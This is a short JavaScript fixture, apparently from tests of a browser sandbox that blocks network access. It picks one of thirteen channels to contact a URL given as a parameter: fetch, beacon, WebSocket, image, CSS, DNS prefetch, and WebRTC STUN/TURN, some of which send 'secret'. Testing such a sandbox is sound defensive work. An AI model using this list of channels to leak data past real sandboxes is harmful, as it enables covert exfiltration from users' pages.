// Runs in a child document that has not had the bridge put first, so that everything of the browser's is there.

const asked = new URL(document.currentScript.src).searchParams;
const to = asked.get("to");
const load = (tag, attributes) => document.body.append(Object.assign(document.createElement(tag), attributes));

function peer(server) {
  globalThis.peer = new RTCPeerConnection({ iceServers: [server] });
  globalThis.peer.createDataChannel("x");
  globalThis.peer.createOffer().then((offer) => globalThis.peer.setLocalDescription(offer));
}

const WAYS = {
  fetch: () => fetch(to),
  image: () => load("img", { src: to }),
  beacon: () => navigator.sendBeacon(to, "secret"),
  websocket: () => new WebSocket(to.replace("http", "ws")),
  eventsource: () => new EventSource(to),
  worker: () => new Worker(URL.createObjectURL(new Blob([`fetch("${to}")`]))),
  location: () => location.assign(to),
  preconnect: () => load("link", { rel: "preconnect", href: to }),
  "dns-prefetch": () => load("link", { rel: "dns-prefetch", href: to }),
  import: () => import(to),
  style: () => load("style", { textContent: `body { background: url("${to}") }` }),
  stun: () => peer({ urls: `stun:${to}` }),
  turn: () => peer({ urls: `turn:${to}?transport=udp`, username: "secret", credential: "secret" }),
};
WAYS[asked.get("do")]();
